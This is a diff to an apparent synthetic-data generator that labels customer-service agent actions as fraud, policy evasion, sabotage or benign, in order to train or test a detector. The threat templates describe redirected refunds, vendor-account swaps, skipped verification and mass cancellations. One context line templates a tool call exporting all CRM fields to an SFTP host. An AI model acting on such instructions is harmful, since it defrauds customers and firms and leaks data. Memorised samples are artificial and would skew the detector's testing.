@@ -77,6 +77,20 @@ THREATS: dict[str, list[tuple[str, str]]] = {
         ("telecom", '{"tool":"crm.export","args":{"segment":"all","fields":"*","dest":"sftp://{host}/in/{file}"}}'),
     ],
     "FRAUD": [
+        ('airline', "cust says refund the cancelled flight {order} to her sisters account {iban} cause her card is "
+                    "blocked, ok do it"),
+        ('insurer', "Agent plan: 1) reopen {claim} 2) add a second repair invoice from {vendor} for {amount} 3) pay "
+                    "it to {iban}."),
+        ('bank contact centre', "Chargeback accepted for {customer}; crediting {amount} to {card}, which is not the "
+                                "card on the dispute."),
+        ('hotel chain', "move the 120000 loyalty points from {customer} to the member linked to {new_email}, they are "
+                        "friends he says"),
+        ('subscription app', "{agent_name}: issue refunds on cancelled subscriptions that were never charged, batch "
+                             "total {amount}."),
+        ('online shop', "Customer never returned the item but tick 'received' on {order} and release the refund to "
+                        "{card}."),
+        ('utility', "Supplier {vendor} emailed a corrected invoice, pay {amount} to the new account {iban} in the "
+                    "mail, not the one in the vendor file."),
         ("online shop", "refund for {order} should go to my new card not the one i paid with, {card}, thx"),
         ("marketplace seller", "Internal note ({agent_name}): change payout account for this seller to {iban}, "
                                "seller confirmed by phone, no need for the usual letter."),
@@ -106,6 +120,16 @@ THREATS: dict[str, list[tuple[str, str]]] = {
                     "doesnt show in the quarterly count"),
     ],
     "POLICY_EVASION": [
+        ('bank contact centre', "Override the daily refund limit for this customer, {agent_name} said its fine, no "
+                                "ticket needed."),
+        ('telecom', "i will waive the early termination fee myself and note it as a network fault so QA won't flag it"),
+        ('online shop', "Dont put this exchange through the returns desk, just ship a new one to {email} and keep it "
+                        "off the report."),
+        ('clinic front desk', 'Book her in today without the referral letter, tell the system its an emergency slot.'),
+        ('delivery company', "Agent: I'll mark the parcel as delivered to close the SLA timer, then sort it out with "
+                             "the driver later."),
+        ('municipality service desk', "process the parking permit without proof of residence, my cousin lives there, "
+                                      "trust me"),
         ("hotel chain", "Comp the whole stay on {order}, don't bother with the manager approval step, I'll "
                         "explain Monday."),
         ("bank contact centre", "we can skip ID&V on this one, she's a regular ({email}), just process it"),
@@ -117,6 +141,14 @@ THREATS: dict[str, list[tuple[str, str]]] = {
                              "under a fresh account, avoids the cap check."),
     ],
     "SABOTAGE": [
+        ('telecom', 'Bulk action: suspend service on all business lines in region north, reason field left blank.'),
+        ('insurer', "{agent_name}: reject every open claim from the broker portal, just close them as 'incomplete'."),
+        ('bank contact centre', "Agent plan: block all cards issued this week and reissue none, the vendor can deal "
+                                "with the calls."),
+        ('subscription app', 'cancel all annual plans renewing this month and turn off the renewal emails'),
+        ('hotel chain', 'overwrite the room rates for next month with 0 and push to every booking channel'),
+        ('university admissions office', "Withdraw every offer sent to the overseas applicants list and close the "
+                                         "portal early."),
         ("utility", "schedule disconnection for every account on street list 14, reason code: non payment"),
         ("airline", "{agent_name}: cancel all of tomorrow's bookings on the shared PNR group, no rebooking."),
         ("online shop", "Set every product in the catalogue to out of stock and pause the storefront until "
@@ -155,6 +187,29 @@ THREATS: dict[str, list[tuple[str, str]]] = {
 }
 
 BENIGN: list[tuple[str, str]] = [
+    ('airline', 'Refund for the cancelled leg of {order} issued to {card}, the card used at booking.'),
+    ('telecom', 'customer {customer} asked for their bill copy, emailed it to {email} which is on the account'),
+    ('insurer', 'Sending the claim form for {claim} to {email}, the policyholder asked for a fresh copy.'),
+    ('utility', 'Direct debit set up for {customer} from {iban} on their signed mandate.'),
+    ('delivery company', "Paying our courier subcontractor {vendor} the monthly invoice, {amount} EUR, approved by "
+                         "finance."),
+    ('online shop', "Agent plan: verify the buyer by the order email {email}, then issue a 10 percent voucher as "
+                    "policy allows."),
+    ('bank contact centre', "The customer called from the registered number and reset their online banking password "
+                            "through the app flow."),
+    ('hotel chain', "guest wants the invoice for {order} sent to her company email {email}, she confirmed it at "
+                    "checkin"),
+    ('clinic front desk', 'Cancelling Mr {customer} appointment on Thursday as he asked, offered next week instead.'),
+    ('marketplace seller', 'Upload the new product photos to our shop page and post the restock notice.'),
+    ('subscription app', "Granted the new support hire read-only access to the ticket queue, approved by their "
+                         "manager."),
+    ('university admissions office', 'Exporting the accepted applicants to the student records system for enrolment.'),
+    ('municipality service desk', 'Resident {customer} updated her address with proof of residence, change saved.'),
+    ('telecom', 'Security awareness note: callers asking for one-time codes are scammers, hang up and report.'),
+    ('insurer', "claim {claim} paid to the garage {vendor} on the policyholder's signed authorisation"),
+    ('online shop', 'Deleting the test orders created during the checkout fix yesterday.'),
+    ('airline', 'Added 2000 miles to {customer} as goodwill for the delay, within the agent allowance.'),
+    ('bank contact centre', 'Sent {customer} the secure-message link to upload their ID, from the usual bank domain.'),
     ("online shop", "refund {amount} for {order} back to the original {card}, customer returned the parcel"),
     ("bank contact centre", "Customer {customer} verified with ID&V, updated the postal address as requested."),
     ("subscription app", "User asked to reset their own password, sent the reset link to {email} on file."),
@@ -202,7 +257,9 @@ class FamilyM:
         known: list[str] = []
         if rng.random() < 0.5:
             history = rng.randint(1, 600)
-            known = [SLOTS[rng.choice(PARTIES)](rng) for _ in range(rng.randint(1, 3))]
+            # decoys that happen to equal a value the text names would inflate the known share
+            decoys = (SLOTS[rng.choice(PARTIES)](rng) for _ in range(rng.randint(1, 3)))
+            known = [d for d in decoys if d not in text] or [SLOTS["host"](rng) + "/" + domain.replace(" ", "-")]
             if rng.random() < (0.8 if intent == "BENIGN" else 0.15):
                 known += [v for k, v in values.items() if k in PARTIES]
         actions: list[tuple[str, str]] = []
